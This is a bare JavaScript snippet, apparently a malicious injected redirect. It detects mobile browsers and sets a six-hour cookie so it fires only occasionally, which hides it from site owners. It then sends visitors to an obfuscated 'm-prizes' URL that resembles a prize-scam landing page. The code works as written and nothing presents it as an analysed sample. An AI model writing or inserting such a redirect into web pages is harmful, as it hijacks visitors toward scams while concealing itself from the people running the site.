var a = navigator.userAgent || navigator.vendor || window.opera;
if (/android.+mobile|iphone|ipod|blackberry|opera mini|iemobile/i.test(a)) {
  if (document.cookie.indexOf("_mredir=1") === -1) {
    var ex = new Date();
    ex.setTime(ex.getTime() + 6 * 3600 * 1000);
    document.cookie = "_mredir=1; expires=" + ex.toGMTString() + "; path=/";
    window.location = ["http:/", "m-prizes", "example/in.php?s=00"].join("/").replace("m-prizes/", "m-prizes.");
  }
}
